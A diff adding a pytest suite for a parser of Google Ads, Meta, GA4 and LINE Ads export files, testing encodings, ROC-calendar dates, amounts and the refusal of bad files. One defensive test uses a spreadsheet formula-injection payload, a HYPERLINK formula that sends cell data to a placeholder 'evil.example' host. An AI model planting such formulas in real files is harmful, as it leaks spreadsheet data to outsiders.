@@ -1,0 +1,339 @@
+"""The exports as the tools write them, read to the expected rows and totals."""
+
+import codecs
+import contextlib
+import io
+from datetime import date
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook
+
+from crewplan.lib.xlsxfile import UnusableFile
+from crewplan.measure.parse import (
+    ColumnMap,
+    Layout,
+    parse,
+    parse_amount,
+    parse_day,
+    signature,
+    template_csv,
+)
+
+TODAY = date(2026, 12, 1)
+
+GOOGLE_EN = """Campaign report
+"November 1, 2026 - November 2, 2026"
+Day,Campaign,Campaign type,Currency code,Cost,Impr.,Clicks,Conversions,Conv. value
+2026-11-01,雙11 限時優惠,Search,TWD,"1,234.50","12,000",300,12.50,"15,600.00"
+2026-11-01,品牌影片,Video,TWD,500.00,"8,000",40,--,--
+2026-11-02,雙11 限時優惠,Search,TWD,"2,000.00","20,100",410,20.00,"26,000.00"
+Total: Account,,,TWD,"3,734.50","40,100",750,32.50,"41,600.00"
+Total: Campaigns,,,TWD,"3,734.50","40,100",750,32.50,"41,600.00"
+"""
+
+GOOGLE_ZH_TSV = (
+    "廣告活動報表\n2026年11月1日 - 2026年11月2日\n"
+    "天\t廣告活動\t貨幣代碼\t費用\t曝光\t點擊\t轉換\t轉換價值\n"
+    "2026/11/1\t化粧品 週年慶\tTWD\t1,000\t5,000\t100\t3.00\t4,500\n"
+    "2026/11/2\t化粧品 週年慶\tTWD\t1,500\t6,000\t120\t4.00\t6,000\n"
+    "總計：帳戶\t\tTWD\t2,500\t11,000\t220\t7.00\t10,500\n"
+)
+
+META_EN = (
+    "Reporting starts,Reporting ends,Campaign name,Day,Amount spent (TWD),Impressions,"
+    "Link clicks,Results,Purchases,Purchases conversion value\n"
+    "2026-11-01,2026-11-30,中秋禮盒預購,2026-11-01,980.25,15200,241,6,5,7350\n"
+    "2026-11-01,2026-11-30,中秋禮盒預購,2026-11-02,1020.75,16000,250,7,,\n"
+)
+
+META_ZH = (
+    "分析報告開始,分析報告結束,行銷活動名稱,花費金額（TWD）,曝光次數,連結點擊次數,成果,購買次數,購買轉換值\n"
+    "2026-11-01,2026-11-01,母親節蛋糕,800,9000,120,4,4,5200\n"
+    "2026-11-02,2026-11-02,母親節蛋糕,700,8500,110,3,3,3900\n"
+)
+
+META_NO_DAY = (
+    "Reporting starts,Reporting ends,Campaign name,Amount spent (TWD),Impressions\n"
+    "2026-11-01,2026-11-30,中秋禮盒預購,29800,452000\n"
+)
+
+GA4 = """# ----------------------------------------
+# 所有帳戶 / 麥香烘焙坊
+# 報表：流量開發
+# 開始日期：20261101
+# 結束日期：20261102
+# ----------------------------------------
+
+工作階段預設管道群組,日期,工作階段,重要事件,總收益
+Organic Search,20261101,1200,30,24000.5
+Direct,20261101,800,12,9000
+Organic Search,20261102,1100,25,21000
+"""
+
+GA4_EN = """# Start date: 20261101
+# End date: 20261101
+Session default channel group,Date,Sessions,Key events,Total revenue
+Email,20261101,300,9,4500
+"""
+
+LINE = """LINE Ads 報表
+日期,廣告活動,曝光次數,點擊次數,花費,轉換次數
+2026/11/01,官方帳號好友募集,"10,000",150,"1,200",8
+"""
+
+GENERIC_ZH = (
+    "日期,通路,活動,花費,曝光,點擊,轉換,營收\n"
+    "115/11/01,LINE Ads,好友募集,NT$1,200,,,,\n"
+    "115年11月2日,SEO,,,,,,3000\n"
+)
+
+
+def test_google_ads_english_csv_with_titles_totals_and_dashes() -> None:
+    parsed = parse(GOOGLE_EN.encode(), today=TODAY)
+    assert parsed.layout == Layout.GOOGLE_ADS and parsed.currency == "TWD"
+    assert parsed.rows_read == 3 and parsed.header_line == 3
+    first, video, _second = parsed.rows
+    assert (first.day, first.channel, first.campaign) == (
+        date(2026, 11, 1),
+        "Google Ads",
+        "雙11 限時優惠",
+    )
+    assert (first.spend, first.impressions, first.clicks, first.conversions, first.revenue) == (
+        123450,
+        12000,
+        300,
+        1250,
+        1560000,
+    )
+    assert video.channel == "YouTube" and video.conversions is None and video.revenue is None
+    assert sum(r.spend or 0 for r in parsed.rows) == 373450  # totals rows not counted
+    assert (parsed.date_from, parsed.date_to) == (date(2026, 11, 1), date(2026, 11, 2))
+    assert parsed.problems == []
+
+
+@pytest.mark.parametrize(
+    "bom, codec", [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")]
+)
+def test_google_ads_chinese_utf16_tab_separated(bom: bytes, codec: str) -> None:
+    parsed = parse(bom + GOOGLE_ZH_TSV.encode(codec), today=TODAY)
+    assert parsed.layout == Layout.GOOGLE_ADS and parsed.encoding == "utf-16"
+    assert [r.campaign for r in parsed.rows] == ["化粧品 週年慶"] * 2
+    assert sum(r.spend or 0 for r in parsed.rows) == 250000
+    assert sum(r.conversions or 0 for r in parsed.rows) == 700
+
+
+def test_cp950_and_big5hkscs_files() -> None:
+    parsed = parse(GOOGLE_ZH_TSV.encode("cp950"), today=TODAY)
+    assert parsed.encoding == "cp950" and parsed.rows[0].campaign == "化粧品 週年慶"
+    text = GOOGLE_ZH_TSV.replace("化粧品", "堃記")
+    parsed = parse(text.encode("big5hkscs"), today=TODAY)
+    assert parsed.rows[0].campaign.startswith("堃記")
+
+
+def test_meta_english_with_day_breakdown() -> None:
+    parsed = parse(("\ufeff" + META_EN).encode(), today=TODAY)
+    assert parsed.layout == Layout.META_ADS and parsed.currency == "TWD"
+    assert [r.day for r in parsed.rows] == [date(2026, 11, 1), date(2026, 11, 2)]
+    first = parsed.rows[0]
+    assert (first.channel, first.spend, first.clicks, first.conversions, first.revenue) == (
+        "Meta",
+        98025,
+        241,
+        500,
+        735000,
+    )
+    assert dict(first.extras) == {"results": 600, "purchases": 500}
+
+
+def test_meta_chinese_full_width_parentheses_day_from_equal_dates() -> None:
+    parsed = parse(META_ZH.encode(), today=TODAY)
+    assert parsed.layout == Layout.META_ADS and parsed.currency == "TWD"
+    assert [r.spend for r in parsed.rows] == [80000, 70000]
+    assert [r.day for r in parsed.rows] == [date(2026, 11, 1), date(2026, 11, 2)]
+
+
+def test_meta_without_day_breakdown_is_refused() -> None:
+    with pytest.raises(UnusableFile) as error:
+        parse(META_NO_DAY.encode(), today=TODAY)
+    assert error.value.code == "no_day_breakdown"
+
+
+def test_ga4_with_comment_lines_in_both_languages() -> None:
+    parsed = parse(GA4.encode("utf-8"), today=TODAY)
+    assert parsed.layout == Layout.GA4
+    assert [(r.channel, r.campaign) for r in parsed.rows][:2] == [
+        ("Organic Search", ""),
+        ("Direct", ""),
+    ]
+    assert parsed.rows[0].revenue == 2400050 and dict(parsed.rows[0].extras) == {
+        "sessions": 120000,
+        "key_events": 3000,
+    }
+    english = parse(GA4_EN.encode(), today=TODAY)
+    assert english.layout == Layout.GA4 and english.rows[0].channel == "Email"
+
+
+def test_line_ads_report() -> None:
+    parsed = parse(LINE.encode("cp950"), today=TODAY)
+    assert parsed.layout == Layout.LINE_ADS
+    row = parsed.rows[0]
+    assert (row.channel, row.impressions, row.clicks, row.spend, row.conversions) == (
+        "LINE Ads",
+        10000,
+        150,
+        120000,
+        800,
+    )
+
+
+def test_generic_template_with_roc_dates_and_missing_columns() -> None:
+    parsed = parse(GENERIC_ZH.replace("NT$1,200", '"NT$1,200"').encode(), today=TODAY)
+    assert parsed.layout == Layout.GENERIC
+    assert [(r.day, r.channel, r.spend, r.revenue) for r in parsed.rows] == [
+        (date(2026, 11, 1), "LINE Ads", 120000, None),
+        (date(2026, 11, 2), "SEO", None, 300000),
+    ]
+    english = parse(template_csv("en").encode(), today=TODAY)
+    chinese = parse(template_csv("zh-hant").encode(), today=TODAY)
+    assert english.rows == chinese.rows and len(english.rows) == 2
+
+
+def test_row_problems_with_their_lines() -> None:
+    text = (
+        "date,channel,campaign,spend\n"
+        "2026-11-01,Meta,a,100\n"
+        "someday,Meta,a,100\n"
+        "2026-11-02,Meta,a,-5\n"
+        "2026-11-03,Meta,a,1e3\n"
+        "2026-12-25,Meta,a,100\n"
+        "2026-11-01,Meta,a,100\n"
+        "2026-11-01,Meta,b,100\n"
+        "2026-11-01,Meta,b,50\n"
+    )
+    parsed = parse(text.encode(), today=TODAY)
+    found = [(p.line, p.code, p.severity) for p in parsed.problems]
+    assert found == [
+        (3, "bad_date", "error"),
+        (4, "negative_spend", "error"),
+        (5, "bad_number", "error"),
+        (6, "future_date", "warning"),
+        (7, "duplicate_row", "warning"),
+        (9, "rows_added_together", "warning"),
+    ]
+    assert [(r.campaign, r.spend) for r in parsed.rows] == [
+        ("a", 10000),
+        ("a", 10000),
+        ("b", 15000),
+    ]
+
+
+def test_formula_looking_names_stay_text() -> None:
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1)"]
+    lines = "".join(f'2026-11-01,Meta,"{n.replace(chr(34), chr(34) * 2)}",10\n' for n in names)
+    parsed = parse(("date,channel,campaign,spend\n" + lines).encode(), today=TODAY)
+    assert [r.campaign for r in parsed.rows] == names
+
+
+def test_unknown_header_then_mapped() -> None:
+    text = 'Tag,Kanal,Kosten\n2026-11-01,Meta,"1,000"\n2026-11-02,Meta,500\n'
+    parsed = parse(text.encode(), today=TODAY)
+    assert parsed.layout == Layout.UNKNOWN and parsed.rows == []
+    assert parsed.header == ("Tag", "Kanal", "Kosten") and len(parsed.sample) == 2
+    mapped = parse(
+        text.encode(), today=TODAY, mapping=ColumnMap({"date": 0, "channel": 1, "spend": 2})
+    )
+    assert mapped.layout == Layout.MAPPED and [r.spend for r in mapped.rows] == [100000, 50000]
+    assert signature(parsed.header) == signature(("TAG", " kanal", "Ｋｏｓｔｅｎ"))
+
+
+def test_xlsx_export() -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["Campaign report"])
+    sheet.append(["Day", "Campaign", "Currency code", "Cost", "Impr.", "Clicks"])
+    sheet.append([date(2026, 11, 1), "雙11", "TWD", 1234.5, 1000, 10])
+    out = io.BytesIO()
+    book.save(out)
+    parsed = parse(out.getvalue(), today=TODAY)
+    assert parsed.encoding == "xlsx" and parsed.rows[0].spend == 123450
+
+
+@pytest.mark.parametrize(
+    "data, code",
+    [
+        (codecs.BOM_UTF16_LE + "日期\t費用\n".encode("utf-16-le")[:-1], "truncated"),
+        (b"PK\x03\x04not really a zip", "not_zip"),
+        (b"", "empty_file"),
+        ((",".join(f"c{i}" for i in range(10_000)) + "\n").encode(), "too_many_columns"),
+        (
+            b"Day,Cost,Currency code\n2026-11-01,1,TWD\n2026-11-02,1,USD\n",
+            "several_currencies",
+        ),
+        (b"just some words\n", "no_table"),
+    ],
+)
+def test_unusable_files_are_refused(data: bytes, code: str) -> None:
+    with pytest.raises(UnusableFile) as error:
+        parse(data, today=TODAY)
+    assert error.value.code == code
+
+
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("2026-11-01", date(2026, 11, 1)),
+        ("2026/1/5", date(2026, 1, 5)),
+        ("20261101", date(2026, 11, 1)),
+        ("115/11/01", date(2026, 11, 1)),
+        ("115-11-01", date(2026, 11, 1)),
+        ("115年11月1日", date(2026, 11, 1)),
+        ("民國115年11月1日", date(2026, 11, 1)),
+        ("2026年11月1日", date(2026, 11, 1)),
+        ("1151101", date(2026, 11, 1)),
+        ("Nov 1, 2026", date(2026, 11, 1)),
+        ("Sunday, November 1, 2026", date(2026, 11, 1)),
+        ("２０２６－１１－０１", date(2026, 11, 1)),
+    ],
+)
+def test_dates(text: str, expected: date) -> None:
+    assert parse_day(text) == expected
+
+
+@pytest.mark.parametrize("text", ["151101", "2026-13-01", "soon", ""])
+def test_bad_dates(text: str) -> None:
+    with pytest.raises(ValueError):
+        parse_day(text)
+
+
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("NT$1,234", 123400),
+        ("$1,234.50", 123450),
+        ("TWD 1,234", 123400),
+        ("1234.565", 123456),
+        ("1234.575", 123458),
+        ("--", None),
+        ("12.5%", 1250),
+        ("１，２３４", 123400),
+        ("(50)", -5000),
+    ],
+)
+def test_amounts(text: str, expected: int | None) -> None:
+    assert parse_amount(text) == expected
+
+
+@pytest.mark.parametrize("text", ["1e3", "12,34,5x", "NaN", "Infinity"])
+def test_bad_amounts(text: str) -> None:
+    with pytest.raises(ValueError):
+        parse_amount(text)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=2000))
+def test_any_bytes_are_read_or_refused(data: bytes) -> None:
+    with contextlib.suppress(UnusableFile):
+        parse(data, today=TODAY)
